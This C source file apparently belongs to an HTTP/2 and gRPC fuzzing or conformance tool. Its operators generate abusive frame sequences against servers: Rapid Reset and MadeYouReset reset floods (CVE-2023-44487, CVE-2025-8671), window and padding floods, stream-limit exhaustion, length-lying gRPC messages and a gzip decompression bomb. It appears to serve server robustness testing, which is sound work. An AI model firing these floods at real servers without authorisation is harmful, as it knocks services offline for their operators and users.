/* Operators on streams: flow control, DATA, HEADERS, resets, priorities, and gRPC's own framing. */
#include "fuzz/frames/build.h"

#define WINDOW_DEFAULT   ((uint32_t)1 << 20)  /* bytes */
#define OVER_WINDOW      ((uint32_t)96 << 10) /* bytes beyond it: what was being processed may have been given back */
#define DATA_PIECE       ((uint32_t)16384)    /* bytes */
#define LARGE_MESSAGE    ((size_t)3 << 19)    /* bytes */
#define LARGE_FIELD_HEAD 6                    /* bytes: tag and length */
#define BOMB_PIECES      256                  /* MiB, when unpacked */

static void window(struct frame_build *b, uint32_t stream, uint32_t by)
{
    text_clear(&b->text);
    frame_put_number(&b->text, by);
    frame_build_frame(b, FRAME_WINDOW_UPDATE, 0, stream, text_bytes(&b->text));
    text_clear(&b->text);
}

int op_window_overflow_connection(struct frame_build *b)
{
    frame_build_hello(b);
    frame_build_here(b);
    window(b, 0, FRAME_WINDOW_MAX);
    return 0;
}

int op_window_overflow_stream(struct frame_build *b)
{
    frame_build_hello(b);
    frame_build_call(b, frame_build_hold_path(b), 1, false);
    frame_build_here(b);
    window(b, 1, FRAME_WINDOW_MAX);
    return 0;
}

static void one_window(struct frame_build *b, uint32_t i)
{
    frame_put_head(&b->text, 4, FRAME_WINDOW_UPDATE, 0, i & 1);
    frame_put_number(&b->text, 1);
}

int op_window_flood(struct frame_build *b)
{
    frame_build_hello(b);
    frame_build_call(b, frame_build_hold_path(b), 1, false);
    frame_build_here(b);
    frame_build_flood(b, b->repeat, one_window);
    return 0;
}

static uint32_t flood_stream(struct frame_build *b)
{
    uint32_t id = b->next;
    b->next += 2;
    return id;
}

/* CVE-2025-8671: the server is made to reset the stream itself, which no count of the client's resets sees. */
static void one_made_reset(struct frame_build *b, uint32_t i)
{
    (void)i;
    uint32_t id = flood_stream(b);
    frame_put(&b->text, FRAME_HEADERS, FRAME_END_HEADERS, id, frame_build_plain_block(b, frame_build_hold_path(b), ""));
    frame_put_head(&b->text, 4, FRAME_WINDOW_UPDATE, 0, id);
    frame_put_number(&b->text, FRAME_WINDOW_MAX); /* a stream error (6.9.1) */
}

int op_made_you_reset(struct frame_build *b)
{
    frame_build_hello(b);
    frame_build_here(b);
    frame_build_flood(b, b->repeat, one_made_reset);
    return 0;
}

/* CVE-2023-44487. */
static void one_rapid_reset(struct frame_build *b, uint32_t i)
{
    (void)i;
    uint32_t id = flood_stream(b);
    frame_put(&b->text, FRAME_HEADERS, FRAME_END_HEADERS, id, frame_build_plain_block(b, frame_build_hold_path(b), ""));
    frame_put_head(&b->text, 4, FRAME_RST_STREAM, 0, id);
    frame_put_number(&b->text, H2_CANCEL);
}

int op_rst_storm(struct frame_build *b)
{
    frame_build_hello(b);
    frame_build_here(b);
    frame_build_flood(b, b->repeat, one_rapid_reset);
    return 0;
}

/* Beyond what any defence lets pass: somebody has to call it enough. */
int op_rst_storm_long(struct frame_build *b)
{
    frame_build_hello(b);
    frame_build_here(b);
    frame_build_flood(b, b->repeat * FRAMES_LONG, one_rapid_reset);
    return 0;
}

int op_rst_twice(struct frame_build *b)
{
    static const char cancel[4] = {0, 0, 0, H2_CANCEL};
    frame_build_hello(b);
    frame_build_call(b, frame_build_hold_path(b), 1, false);
    frame_build_here(b);
    for (int i = 0; i < 2; i++)
        frame_build_frame(b, FRAME_RST_STREAM, 0, 1, BYTES(cancel, sizeof cancel));
    return 0;
}

/* ---- DATA ------------------------------------------------------------------------------------------------------- */

static void zeros(struct text *out, size_t n)
{
    static const uint8_t none[256];
    for (; n > sizeof none; n -= sizeof none)
        text_add(out, none, sizeof none);
    text_add(out, none, n);
}

/* Whole messages, a frame each: what is half a message, a server may have to take in beyond its window. */
int op_data_over_window(struct frame_build *b)
{
    uint32_t size = (b->plan->window ? b->plan->window : WINDOW_DEFAULT) + OVER_WINDOW;
    frame_build_hello(b);
    frame_build_call(b, frame_build_hold_path(b), 1, false);
    frame_build_here(b);
    for (uint32_t sent = 0, n = 0; sent < size; sent += DATA_PIECE, n++) {
        frame_put_head(&b->text, DATA_PIECE, FRAME_DATA, 0, 1);
        text_char(&b->text, '\0');
        frame_put_number(&b->text, DATA_PIECE - 5);
        zeros(&b->text, DATA_PIECE - 5);
        if (n % 8 == 7)
            frame_build_flush(b);
    }
    frame_build_flush(b);
    return 0;
}

static void one_empty_data(struct frame_build *b, uint32_t i)
{
    (void)i;
    frame_put_head(&b->text, 0, FRAME_DATA, 0, 1);
}

int op_data_empty_flood(struct frame_build *b)
{
    frame_build_hello(b);
    frame_build_call(b, frame_build_hold_path(b), 1, false);
    frame_build_here(b);
    frame_build_flood(b, b->repeat, one_empty_data);
    return 0;
}

static void one_padding(struct frame_build *b, uint32_t i)
{
    (void)i;
    frame_put_head(&b->text, 256, FRAME_DATA, FRAME_PADDED, 1);
    text_char(&b->text, (char)0xff);
    zeros(&b->text, 255);
}

int op_data_padding_flood(struct frame_build *b)
{
    frame_build_hello(b);
    frame_build_call(b, frame_build_hold_path(b), 1, false);
    frame_build_here(b);
    frame_build_flood(b, b->repeat / 8 + (b->repeat < 8), one_padding);
    return 0;
}

/* ---- HEADERS ---------------------------------------------------------------------------------------------------- */

int op_headers_even_stream(struct frame_build *b)
{
    frame_build_hello(b);
    frame_build_here(b);
    frame_build_call(b, b->plan->path, 2, true);
    return 0;
}

int op_headers_decreasing(struct frame_build *b)
{
    frame_build_hello(b);
    frame_build_call(b, b->plan->path, 5, true);
    frame_build_here(b);
    frame_build_call(b, b->plan->path, 3, true);
    return 0;
}

int op_headers_after_end(struct frame_build *b)
{
    frame_build_hello(b);
    frame_build_call(b, frame_build_hold_path(b), 1, true);
    frame_build_here(b);
    frame_build_headers(b, b->plan->path, "x-again: 1\n", 1, FRAME_END_HEADERS | FRAME_END_STREAM, 0);
    return 0;
}

int op_headers_stream_zero(struct frame_build *b)
{
    frame_build_hello(b);
    frame_build_here(b);
    frame_build_headers(b, b->plan->path, NULL, 0, FRAME_END_HEADERS | FRAME_END_STREAM, 0);
    return 0;
}

int op_headers_self_dependency(struct frame_build *b)
{
    frame_build_hello(b);
    frame_build_here(b);
    frame_build_headers(b, b->plan->path, NULL, 1, headers_number(FRAME_END_HEADERS | FRAME_WITH_PRIORITY, 0, 0, 1), 0);
    frame_build_message(b, 1, FRAME_END_STREAM, b->plan->message);
    return 0;
}

static int trailers(struct frame_build *b, const char *lines, uint8_t flags)
{
    frame_build_hello(b);
    frame_build_call(b, b->plan->path, 1, false);
    frame_build_message(b, 1, 0, b->plan->message);
    frame_build_here(b);
    frame_build_headers(b, b->plan->path, lines, 1, FRAME_END_HEADERS | flags, 0);
    return 0;
}

int op_trailers_no_end(struct frame_build *b)
{
    return trailers(b, "x-trailer: 1\n", 0);
}

int op_trailers_pseudo(struct frame_build *b)
{
    return trailers(b, ":path: /again\n", FRAME_END_STREAM);
}

/* The call is the operator's as well: without it this would be something else. */
int op_trailers_fine(struct frame_build *b)
{
    frame_build_hello(b);
    frame_build_here(b);
    frame_build_call(b, b->plan->path, 1, false);
    frame_build_message(b, 1, 0, b->plan->message);
    frame_build_headers(b, b->plan->path, "x-trailer: 1\n", 1, FRAME_END_HEADERS | FRAME_END_STREAM, 0);
    return 0;
}

int op_data_after_trailers(struct frame_build *b)
{
    frame_build_hello(b);
    frame_build_call(b, frame_build_hold_path(b), 1, false);
    frame_build_message(b, 1, 0, b->plan->message);
    frame_build_headers(b, b->plan->path, "x-trailer: 1\n", 1, FRAME_END_HEADERS | FRAME_END_STREAM, 0);
    frame_build_here(b);
    frame_build_message(b, 1, FRAME_END_STREAM, b->plan->message);
    return 0;
}

/* ---- PRIORITY --------------------------------------------------------------------------------------------------- */

static void priority(struct frame_build *b, uint32_t stream, uint32_t on)
{
    frame_put_head(&b->text, 5, FRAME_PRIORITY, 0, stream);
    frame_put_number(&b->text, on);
    text_char(&b->text, 15);
}

int op_priority_loop(struct frame_build *b)
{
    frame_build_hello(b);
    for (uint32_t i = 0; i < 3; i++)
        frame_build_call(b, frame_build_hold_path(b), 1 + 2 * i, false);
    frame_build_here(b);
    for (uint32_t i = 0; i < 60; i++)
        priority(b, 1 + 2 * (i % 3), (1 + 2 * ((i + 1) % 3)) | (i & 1 ? FRAME_RESERVED : 0));
    frame_build_flush(b);
    return 0;
}

static void one_priority(struct frame_build *b, uint32_t i)
{
    priority(b, 1001 + 2 * i, i ? 999 + 2 * i : 0);
}

/* Streams that never come, each depending on the one before. */
int op_priority_flood(struct frame_build *b)
{
    frame_build_hello(b);
    frame_build_here(b);
    frame_build_flood(b, b->repeat, one_priority);
    b->next = 1001 + 2 * b->repeat;
    return 0;
}

/* ---- numbers of streams ----------------------------------------------------------------------------------------- */

static void one_held_call(struct frame_build *b, uint32_t i)
{
    (void)i;
    uint32_t id = flood_stream(b);
    frame_put(&b->text, FRAME_HEADERS, FRAME_END_HEADERS, id, frame_build_plain_block(b, frame_build_hold_path(b), ""));
}

int op_streams_over_limit(struct frame_build *b)
{
    frame_build_hello(b);
    frame_build_flood(b, b->repeat, one_held_call);
    frame_build_here(b);
    frame_build_call(b, frame_build_hold_path(b), b->next, false); /* the subject: refused, if there is a limit */
    b->no_call = true;                                             /* so would the probe be */
    return 0;
}

int op_stream_id_last(struct frame_build *b)
{
    frame_build_hello(b);
    frame_build_here(b);
    frame_build_call(b, b->plan->path, FRAME_WINDOW_MAX, true);
    b->no_call = true; /* no stream is left */
    return 0;
}

int op_stream_ids_used_up(struct frame_build *b)
{
    frame_build_hello(b);
    frame_build_call(b, b->plan->path, FRAME_WINDOW_MAX, true);
    frame_build_here(b);
    frame_build_call(b, b->plan->path, 1, true);
    b->no_call = true;
    return 0;
}

/* ---- gRPC ------------------------------------------------------------------------------------------------------- */

static int length_lie(struct frame_build *b, size_t length)
{
    struct text lines = TEXT_INIT;
    frame_build_hello(b);
    frame_build_here(b);
    text_printf(&lines,
                ":method: POST\n:scheme: http\n:path: @\n:authority: $\ncontent-type: application/grpc\n"
                "te: trailers\ncontent-length: %zu\n",
                length);
    int rc = text_ok(&lines) ? 0 : ERROR_MEMORY;
    if (rc == 0)
        frame_build_headers(b, b->plan->path, text_string(&lines), 1, FRAME_END_HEADERS, 0);
    frame_build_message(b, 1, FRAME_END_STREAM, b->plan->message);
    text_deinit(&lines);
    return rc;
}

int op_length_lie_more(struct frame_build *b)
{
    return length_lie(b, b->plan->message.len + 5 + 3);
}

int op_length_lie_less(struct frame_build *b)
{
    return length_lie(b, b->plan->message.len + 5 - 3);
}

static int raw_message(struct frame_build *b, const char *path, const char *bytes, size_t len, uint8_t flags)
{
    frame_build_hello(b);
    frame_build_call(b, path, 1, false);
    frame_build_here(b);
    frame_build_frame(b, FRAME_DATA, flags, 1, BYTES(bytes, len));
    return 0;
}

int op_message_flag(struct frame_build *b)
{
    return raw_message(b, b->plan->path, "\x02\0\0\0\0", 5, FRAME_END_STREAM);
}

int op_message_length_lie(struct frame_build *b)
{
    return raw_message(b, b->plan->path, "\0\xff\xff\xff\xff", 5, 0);
}

int op_message_cut(struct frame_build *b)
{
    return raw_message(b, b->plan->path, "\0\0\0\0\x64hello", 10, FRAME_END_STREAM);
}

/* A length and one byte of it: what is set aside for the rest costs whoever believes it. */
static void one_promise(struct frame_build *b, uint32_t i)
{
    (void)i;
    uint32_t id = flood_stream(b);
    frame_put(&b->text, FRAME_HEADERS, FRAME_END_HEADERS, id, frame_build_plain_block(b, frame_build_hold_path(b), ""));
    frame_put(&b->text, FRAME_DATA, 0, id, BYTES("\0\0\x40\0\0x", 6)); /* 4 MiB */
}

int op_message_prefix_hold(struct frame_build *b)
{
    frame_build_hello(b);
    frame_build_here(b);
    frame_build_flood(b, b->repeat / 20 + (b->repeat < 20), one_promise);
    return 0;
}

/* A message whose prefix comes in pieces: where frames end says nothing about it. */
int op_message_prefix_split(struct frame_build *b)
{
    frame_build_hello(b);
    frame_build_here(b);
    frame_build_headers(b, b->plan->path, NULL, 1, FRAME_END_HEADERS, 0);
    struct text message = TEXT_INIT;
    frame_put_message(&message, b->plan->message);
    const size_t first = 3; /* bytes of the prefix in the first frame */
    int rc = text_ok(&message) ? 0 : ERROR_MEMORY;
    if (rc == 0) {
        frame_build_frame(b, FRAME_DATA, 0, 1, BYTES(message.data, first));
        frame_build_pause(b, FRAMES_PAUSE);
        frame_build_frame(b, FRAME_DATA, FRAME_END_STREAM, 1, BYTES(message.data + first, message.len - first));
    }
    text_deinit(&message);
    return rc;
}

/* The same byte by byte, without a pause, and its end in a frame of nothing. */
int op_message_in_bytes(struct frame_build *b)
{
    frame_build_hello(b);
    frame_build_here(b);
    frame_build_headers(b, b->plan->path, NULL, 1, FRAME_END_HEADERS, 0);
    struct text message = TEXT_INIT;
    frame_put_message(&message, b->plan->message);
    for (size_t i = 0; text_ok(&message) && i < message.len && i < 64; i++)
        frame_put(&b->text, FRAME_DATA, 0, 1, BYTES(message.data + i, 1));
    if (message.len > 64)
        frame_put(&b->text, FRAME_DATA, 0, 1, BYTES(message.data + 64, message.len - 64));
    frame_put_head(&b->text, 0, FRAME_DATA, FRAME_END_STREAM, 1);
    int rc = text_ok(&message) ? 0 : ERROR_MEMORY;
    frame_build_flush(b);
    text_deinit(&message);
    return rc;
}

/* So much may be answered. */
static void put_window(struct frame_build *b, uint32_t stream)
{
    frame_put_head(&b->text, 4, FRAME_WINDOW_UPDATE, 0, stream);
    frame_put_number(&b->text, FRAME_WINDOW_MAX - FRAME_WINDOW);
    frame_build_flush(b);
}

/* A message that is larger than what a stream may be sent at once: an unknown field of zeros, which decoders skip. Sent
 * as far as the windows allow, so the peer has to open them on its way, again and again. */
int op_message_large(struct frame_build *b)
{
    const size_t size = b->plan->window ? 2 * (size_t)b->plan->window : LARGE_MESSAGE;
    struct text message = TEXT_INIT;
    frame_build_hello(b);
    frame_build_pause(b, FRAMES_PAUSE); /* for its SETTINGS */
    frame_build_here(b);
    frame_build_headers(b, b->plan->path, NULL, 1, FRAME_END_HEADERS, 0);
    put_window(b, 0);
    put_window(b, 1);
    text_char(&message, 0);
    frame_put_number(&message, (uint32_t)(b->plan->message.len + size + LARGE_FIELD_HEAD));
    if (b->plan->message.len > 0)
        text_add(&message, b->plan->message.data, b->plan->message.len);
    text_add(&message, "\xfa\x7f", 2); /* field 2047, bytes */
    for (unsigned i = 0; i < 4; i++)   /* its length, a varint of four bytes */
        text_char(&message, (char)((size >> (7 * i) & 0x7f) | (i < 3 ? 0x80 : 0)));
    static const char zeros[4096];
    for (size_t left = size; left > 0; left -= left < sizeof zeros ? left : sizeof zeros)
        text_add(&message, zeros, left < sizeof zeros ? left : sizeof zeros);
    int rc = text_ok(&message) ? 0 : ERROR_MEMORY;
    for (size_t at = 0; rc == 0 && at < message.len; at += DATA_PIECE) {
        size_t len = message.len - at < DATA_PIECE ? message.len - at : DATA_PIECE;
        frame_build_frame(b, FRAME_DATA, at + len == message.len ? FRAME_END_STREAM : 0, 1,
                          BYTES(message.data + at, len));
    }
    text_deinit(&message);
    return rc;
}

/* Zeros, packed: a thousandth of what they become. Who unpacks before he looks at the limit holds all of it. */
int op_message_gzip_bomb(struct frame_build *b)
{
    struct text bomb = TEXT_INIT;
    int rc = frame_build_gzip_zeros(&bomb, BOMB_PIECES);
    frame_build_hello(b);
    frame_build_here(b);
    frame_build_headers(b, b->plan->path,
                        ":method: POST\n:scheme: http\n:path: @\n:authority: $\ncontent-type: application/grpc\n"
                        "te: trailers\ngrpc-encoding: gzip\n",
                        1, FRAME_END_HEADERS, 0);
    text_char(&b->text, 1);
    frame_put_number(&b->text, (uint32_t)bomb.len);
    text_add(&b->text, bomb.data, bomb.len);
    struct text message = b->text; /* cut into frames */
    b->text = TEXT_INIT;
    for (size_t at = 0; rc == 0 && at < message.len; at += DATA_PIECE) {
        size_t len = message.len - at < DATA_PIECE ? message.len - at : DATA_PIECE;
        frame_build_frame(b, FRAME_DATA, at + len == message.len ? FRAME_END_STREAM : 0, 1,
                          BYTES(message.data + at, len));
    }
    rc = rc == 0 && !text_ok(&message) ? ERROR_MEMORY : rc;
    text_deinit(&message);
    text_deinit(&bomb);
    return rc;
}
